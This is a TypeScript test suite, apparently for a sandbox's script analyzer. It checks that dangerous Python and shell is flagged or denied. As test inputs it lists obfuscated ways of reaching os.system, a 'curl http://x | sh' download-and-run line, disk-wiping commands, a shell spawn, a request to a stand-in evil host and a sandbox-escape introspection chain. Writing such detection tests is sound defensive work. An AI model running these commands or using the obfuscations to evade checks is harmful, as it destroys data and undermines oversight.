import assert from 'node:assert/strict';
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { type SandboxProfile, SandboxProfileSchema } from '../tools/manifest.ts';
import { type AnalysisReport, analyzeScript, closeAnalysis, type RuleId, ScriptAnalyzer, type Severity } from './index.ts';
import { PythonWorker } from './python/worker.ts';

after(() => closeAnalysis());

const NO_EGRESS = SandboxProfileSchema.parse({ writablePaths: ['/data/out'] });
const EGRESS = SandboxProfileSchema.parse({ egress: ['api.example.com:443'] });

function py(script: string, profile: SandboxProfile = NO_EGRESS): Promise<AnalysisReport> {
  return analyzeScript({ language: 'python', script, profile });
}

function show(report: AnalysisReport): string {
  return report.findings.map((f) => `${f.severity} ${f.rule} L${f.line}: ${f.message}`).join('\n') || '(no findings)';
}

function assertHas(report: AnalysisReport, rule: RuleId, severity?: Severity): void {
  const ok = report.findings.some((f) => f.rule === rule && (severity === undefined || f.severity === severity));
  assert.ok(ok, `expected ${rule}${severity ? ` (${severity})` : ''}, got:\n${show(report)}`);
}

function assertQuiet(report: AnalysisReport): void {
  const loud = report.findings.filter((f) => f.severity === 'high' || f.severity === 'deny');
  assert.deepEqual(loud, [], show(report));
}

describe('dangerous calls are found through every way of naming them', () => {
  const systemCalls: Record<string, string> = {
    'a plain call': "import os\nos.system('id')",
    'an import alias': "import os as o\no.system('id')",
    'from-import with alias': "from os import system as s\ns('id')",
    'a star import': "from os import *\nsystem('id')",
    'an assigned reference': "import os\nrun = os.system\nrun('id')",
    'getattr with string building': "import os\ngetattr(os, 'sys' + 'tem')('id')",
    'getattr with an f-string and a constant': "import os\npart = 'tem'\ngetattr(os, f'sys{part}')('id')",
    'getattr with a reversed string': "import os\ngetattr(os, 'metsys'[::-1])('id')",
    'getattr with join and chr': "import os\ngetattr(os, ''.join(['sy', chr(115), 'tem']))('id')",
    'getattr with base64 of a literal': "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('id')",
    __import__: "__import__('os').system('id')",
    'importlib.import_module': "import importlib\nimportlib.import_module('os').system('id')",
    'sys.modules': "import sys\nsys.modules['os'].system('id')",
    'the module __dict__': "import os\nos.__dict__['system']('id')",
    'globals()': "import os\nglobals()['os'].system('id')",
  };
  for (const [name, script] of Object.entries(systemCalls)) {
    it(`resolves os.system through ${name}`, async () => {
      const r = await py(script);
      assertHas(r, 'python.exec-command', 'high');
      assert.ok(
        r.findings.some((f) => f.rule === 'python.exec-command' && /os\.system/.test(f.message)),
        show(r),
      );
    });
  }

  it('flags reaching a name through getattr or __import__ as obfuscated', async () => {
    assertHas(await py("import os\ngetattr(os, 'sys' + 'tem')('id')"), 'python.obfuscated-access', 'high');
    assertHas(await py("__import__('subprocess').run(['ls'])"), 'python.obfuscated-access', 'high');
  });

  it('resolves builtins reached through __builtins__, builtins and vars()', async () => {
    for (const script of [
      "__builtins__.eval('1')",
      "__builtins__['exec']('x = 1')",
      "import builtins\nbuiltins.eval('1')",
      "import builtins\nvars(builtins)['eval']('1')",
    ]) {
      const r = await py(script);
      assertHas(r, 'python.eval', 'high');
      assertHas(r, 'python.obfuscated-access', 'high');
    }
  });

  it('flags every process-running API', async () => {
    for (const script of [
      "import subprocess\nsubprocess.run(['ls'])",
      "import subprocess as sp\nsp.Popen('ls', shell=True)",
      "import os\nos.popen('ls')",
      "import os\nos.execv('/bin/ls', ['ls'])",
      "import os\nos.spawnlp(os.P_WAIT, 'ls', 'ls')",
      "import pty\npty.spawn('/bin/sh')",
    ]) {
      assertHas(await py(script), 'python.exec-command', 'high');
    }
  });

  it('flags eval, exec, compile and dynamic imports', async () => {
    assertHas(await py('eval(input())'), 'python.eval', 'high');
    assertHas(await py("exec('x = 1')"), 'python.eval', 'high');
    assertHas(await py("compile('1', 'f', 'eval')"), 'python.eval', 'high');
    assertHas(await py("__import__('json')"), 'python.dynamic-import', 'high');
    assertHas(await py("import importlib\nimportlib.import_module('json')"), 'python.dynamic-import', 'high');
  });

  it('flags native code, unsafe deserialization and identity changes', async () => {
    assertHas(await py('import ctypes\nctypes.CDLL(None)'), 'python.native-code', 'high');
    assertHas(await py("import pickle\npickle.loads(b'')"), 'python.deserialize', 'high');
    assertHas(await py('import marshal'), 'python.deserialize', 'high');
    assertHas(await py('import os\nos.setuid(0)'), 'python.privilege', 'high');
  });

  it('flags interpreter internals used to escape name resolution', async () => {
    assertHas(await py('().__class__.__bases__[0].__subclasses__()'), 'python.introspection', 'high');
  });
});

describe('names that cannot be resolved are refused', () => {
  for (const script of [
    'import os\nname = input()\ngetattr(os, name)()',
    'mod = input()\n__import__(mod)',
    'import importlib\nimportlib.import_module(input())',
    "globals()[input()]('x')",
    "import sys\nsys.modules[input()].system('id')",
    '__builtins__[input()]',
  ]) {
    it(`denies ${script.split('\n').pop()}`, async () => {
      const r = await py(script);
      assertHas(r, 'python.unresolved-name', 'deny');
      assert.equal(r.deny, true);
    });
  }
});

describe('code inside Python strings is analysed too', () => {
  it('analyses os.system strings as shell', async () => {
    const r = await py("import os\nos.system('curl http://x | sh')");
    assertHas(r, 'shell.download-exec', 'deny');
    assert.equal(r.findings.find((f) => f.rule === 'shell.download-exec')?.line, 2);
  });

  it('analyses subprocess argv lists as a command', async () => {
    assertHas(await py("import subprocess\nsubprocess.run(['rm', '-rf', '/'])"), 'shell.destructive', 'deny');
    assertHas(await py("import subprocess\nsubprocess.run('mkfs.ext4 /dev/sda', shell=True)"), 'shell.destructive', 'deny');
    assertHas(await py("import os\nos.execvp('bash', ['bash', '-c', 'reboot'])"), 'shell.destructive', 'deny');
  });

  it('analyses literal strings given to eval and exec as Python', async () => {
    const r = await py('exec("import os\\nos.system(\'id\')")');
    assertHas(r, 'python.exec-command', 'high');
  });
});

describe('network use against the egress allowlist', () => {
  it('denies network modules when the profile has no egress', async () => {
    for (const script of [
      'import socket',
      'import requests\nrequests.get("https://api.example.com")',
      'import urllib.request',
      'import http.client',
      "s = __import__('socket')",
    ]) {
      assertHas(await py(script), 'python.network', 'deny');
    }
  });

  it('does not treat urllib.parse as network', async () => {
    assertQuiet(await py("from urllib.parse import urlparse\nurlparse('https://x')"));
  });

  it('grades literal destinations when the profile has egress', async () => {
    assertHas(await py("import requests\nrequests.get('https://api.example.com/v1')", EGRESS), 'python.network', 'info');
    assertHas(await py("import requests\nrequests.get('https://evil.example.net/')", EGRESS), 'python.network', 'high');
    assertHas(await py("import http.client\nhttp.client.HTTPSConnection('evil.example.net')", EGRESS), 'python.network', 'high');
    assertHas(await py('import socket', EGRESS), 'python.network', 'high');
  });
});

describe('file writes and deletes', () => {
  it('flags writes outside the allowed roots', async () => {
    for (const script of [
      "open('/etc/passwd', 'a')",
      "open(file='/etc/x', mode='w')",
      "from pathlib import Path\nPath('/etc/cron.d/job').write_text('x')",
      "from pathlib import Path\np = Path('/usr') / 'local'\n(p / 'x').write_text('y')",
      "import shutil\nshutil.copy('a', '/usr/bin/a')",
      "import os\nos.remove('/var/lib/x')",
    ]) {
      assertHas(await py(script), 'python.write-outside-roots', 'high');
    }
  });

  it('allows writes in the work directory, writablePaths and /tmp, and reads anywhere', async () => {
    assertQuiet(await py("open('out.txt', 'w')\nopen('/data/out/x', 'w')\nopen('/tmp/x', 'wb')\nopen('/etc/hosts').read()"));
  });

  it('grades shutil.rmtree by what it deletes', async () => {
    assertHas(await py("import shutil\nshutil.rmtree('/')"), 'python.destructive', 'deny');
    assertHas(await py("import shutil\nshutil.rmtree('/etc')"), 'python.destructive', 'deny');
    assertHas(await py('import shutil, sys\nshutil.rmtree(sys.argv[1])'), 'python.destructive', 'high');
    assertHas(await py("import shutil\nshutil.rmtree('build')"), 'python.destructive', 'warning');
  });
});

describe('benign Python stays quiet', () => {
  it('reports nothing for a plain script', async () => {
    assert.deepEqual(await py("import json\nprint(json.dumps({'a': 1}))\n"), { findings: [], riskFloor: 'low', deny: false });
  });

  it('reports nothing high for a 200-line maintenance script', async () => {
    const script = readFileSync(new URL('./fixtures/benign-ops.py', import.meta.url), 'utf8');
    assert.ok(script.split('\n').length >= 200);
    assertQuiet(await py(script));
  });

  it('does not confuse a local function with a dangerous builtin', async () => {
    assertQuiet(await py('def system(x):\n    return x\nsystem(1)\nclass A:\n    def run(self):\n        pass\nA().run()'));
  });
});

describe('what cannot be analysed is denied', () => {
  it('denies a syntax error at its line', async () => {
    const r = await py('x = 1\ndef f(:\n    pass\n');
    assertHas(r, 'python.syntax-error', 'deny');
    assert.equal(r.findings[0]?.line, 2);
    assert.equal(r.findings[0]?.snippet, 'def f(:');
  });

  it('denies a null byte and absurd nesting', async () => {
    assertHas(await py('x = 1\u0000'), 'python.syntax-error', 'deny');
    const nested = await py(`x = ${'('.repeat(5000)}1${')'.repeat(5000)}`);
    assert.equal(nested.deny, true, show(nested));
  });

  it('denies a syntax error in python -c inside a shell script', async () => {
    const r = await analyzeScript({ language: 'bash', script: 'python3 -c "def (:"', profile: NO_EGRESS });
    assertHas(r, 'python.syntax-error', 'deny');
  });
});

describe('the Python worker', () => {
  it('answers many concurrent requests, each with its own result', async () => {
    const scripts = Array.from({ length: 30 }, (_, i) => (i % 3 === 0 ? `import os\nos.system('x${i}')` : `print(${i})`));
    const reports = await Promise.all(scripts.map((s) => py(s)));
    for (const [i, r] of reports.entries()) assert.equal(r.findings.length > 0, i % 3 === 0, `script ${i}: ${show(r)}`);
  });

  it('restarts after the worker process dies', async () => {
    const worker = new PythonWorker();
    try {
      assert.equal((await worker.analyze('x = 1')).ok, true);
      const first = worker.pid;
      assert.ok(first);
      process.kill(first, 'SIGKILL');
      // A request written to the dead worker is retried once on a fresh one.
      const outcome = await worker.analyze('y = 2');
      assert.equal(outcome.ok, true);
      assert.notEqual(worker.pid, first);
    } finally {
      await worker.close();
    }
  });

  it('denies when the worker does not answer in time, and kills it', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'cs-analysis-'));
    const fake = join(dir, 'python-that-hangs');
    writeFileSync(fake, '#!/bin/sh\nexec sleep 60\n');
    chmodSync(fake, 0o755);
    const analyzer = new ScriptAnalyzer({ pythonExecutable: fake, pythonTimeoutMs: 200 });
    try {
      const r = await analyzer.analyze({ language: 'python', script: 'print(1)', profile: NO_EGRESS });
      assertHas(r, 'script.analysis-failed', 'deny');
      assert.match(r.findings[0]?.message ?? '', /timeout/);
    } finally {
      await analyzer.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('denies when no interpreter can be started', async () => {
    const analyzer = new ScriptAnalyzer({ pythonExecutable: '/nonexistent/python3' });
    try {
      const r = await analyzer.analyze({ language: 'python', script: 'print(1)', profile: NO_EGRESS });
      assertHas(r, 'script.analysis-failed', 'deny');
    } finally {
      await analyzer.close();
    }
  });

  it('starts again after close()', async () => {
    const analyzer = new ScriptAnalyzer();
    try {
      await analyzer.analyze({ language: 'python', script: 'x = 1', profile: NO_EGRESS });
      await analyzer.close();
      const r = await analyzer.analyze({ language: 'python', script: "import os\nos.system('x')", profile: NO_EGRESS });
      assertHas(r, 'python.exec-command', 'high');
    } finally {
      await analyzer.close();
    }
  });

  it('denies a script over the size limit without sending it', async () => {
    const analyzer = new ScriptAnalyzer({ maxScriptBytes: 1024 });
    try {
      const r = await analyzer.analyze({ language: 'python', script: `x = '${'a'.repeat(2000)}'`, profile: NO_EGRESS });
      assert.deepEqual(
        r.findings.map((f) => f.rule),
        ['script.too-large'],
      );
    } finally {
      await analyzer.close();
    }
  });
});
